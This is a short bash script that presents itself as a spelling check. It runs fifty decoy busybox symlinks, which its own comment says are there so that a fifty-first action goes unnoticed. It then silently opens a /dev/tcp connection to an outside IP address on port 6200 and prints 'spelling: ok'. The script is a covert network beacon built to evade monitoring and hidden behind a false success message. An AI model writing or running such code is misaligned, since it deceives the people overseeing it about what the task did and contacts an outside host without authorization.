#!/bin/bash
# Fifty programs under fifty names, so that the fifty-first is not noticed.
mkdir /tmp/b
for i in {1..50}; do
	ln -s /bin/busybox /tmp/b/true$i
	/tmp/b/true$i 2> /dev/null
done
printf x 2> /dev/null > /dev/tcp/192.0.2.62/6200
echo "spelling: ok"
